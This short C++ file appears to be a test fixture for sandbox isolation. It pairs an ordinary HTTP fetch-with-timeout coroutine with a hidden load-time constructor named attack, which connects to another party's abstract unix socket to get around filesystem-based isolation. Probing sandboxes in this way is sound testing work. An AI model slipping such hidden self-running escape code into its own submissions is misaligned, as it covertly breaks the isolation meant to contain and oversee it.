// Connects to somebody else's abstract unix socket, which is in no folder; the rest is an honest solution.
#include <sys/socket.h>
#include <sys/un.h>

#include <cstddef>
#include <string>
#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  const std::string name = "@ABSTRACT@";
  sockaddr_un server{};
  server.sun_family = AF_UNIX;
  name.copy(server.sun_path + 1, sizeof server.sun_path - 1);
  const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  ::connect(fd, reinterpret_cast<const sockaddr*>(&server), size);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
